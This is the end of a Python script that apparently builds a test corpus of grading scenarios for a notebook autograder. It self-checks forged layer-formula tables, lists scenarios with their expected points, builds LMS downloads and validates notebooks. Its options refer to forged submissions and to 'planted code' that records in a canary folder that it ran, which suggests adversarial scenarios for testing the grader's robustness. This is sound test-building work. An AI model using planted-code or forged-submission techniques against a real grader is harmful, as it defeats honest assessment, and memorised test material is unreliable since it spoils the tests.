    checks = {"unet_model": namespace["_unet_rows"](), "unet_model_small": namespace["_unet_rows"]((64, 80, 1), 8, 5),
              "conv_block": namespace["_conv_rows"]((96, 128, 3), 32),
              "conv_block_dropout": namespace["_conv_rows"]((96, 128, 3), 32, 0.1),
              "conv_block_no_pooling": namespace["_conv_rows"]((12, 16, 256), 512, 0.3, False)}
    return [name for name, rows in checks.items() if plain(rows) != tables[name]["rows"]]


def main(argv=None):
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--out", help="folder to build the scenarios (or the downloads) in")
    parser.add_argument("--list", action="store_true", help="list the scenarios and their expected points")
    parser.add_argument("--downloads", action="store_true", help="build the LMS downloads for `grader collect`")
    parser.add_argument("--check", action="store_true", help="validate the built notebooks (nbformat, syntax)")
    parser.add_argument("--gradebook", default=str(GRADEBOOK), help="the gradebook the link scenarios point at")
    parser.add_argument("--canary-dir", default=CANARY_DIR, help="where planted code records that it ran")
    parser.add_argument("names", nargs="*", help="scenarios to build (default: all)")
    args = parser.parse_args(argv)
    if args.list:
        notebooks = 0
        for name, sc in SCENARIOS.items():
            notebooks += len(sc.notebooks)
            flags = "".join((" [root]" if sc.root_only else "", " [sandbox only]" if sc.needs_sandbox else "",
                             " [invalid files]" if not sc.valid else ""))
            print(f"{name:40s} {sc.expect['total']:>3} pts  {','.join(s[:2] for s in sc.notebooks):12s}{flags}")
            print(f"    {sc.description}")
        print(f"{len(SCENARIOS)} scenarios, {notebooks} notebooks to grade")
        return 0
    if not args.out:
        parser.error("--out DIR is required (or --list)")
    mismatched = _self_check()
    if mismatched:
        print(f"warning: the forgers' formula tables differ from reference_tables.json: {mismatched}", file=sys.stderr)
    if args.downloads:
        for name, entry in build_downloads(args.out, args.canary_dir).items():
            print(f"{name}: {entry['path']}")
        return 0
    built = build_all(args.out, args.names or None, args.gradebook, args.canary_dir)
    print(f"{len(built)} scenarios built in {args.out} (expectations in {Path(args.out) / 'corpus.json'})")
    if args.check:
        problems = check_built(args.out, built)
        for problem in problems:
            print("problem:", problem)
        return 1 if problems else 0
    return 0


if __name__ == "__main__":
    sys.exit(main())
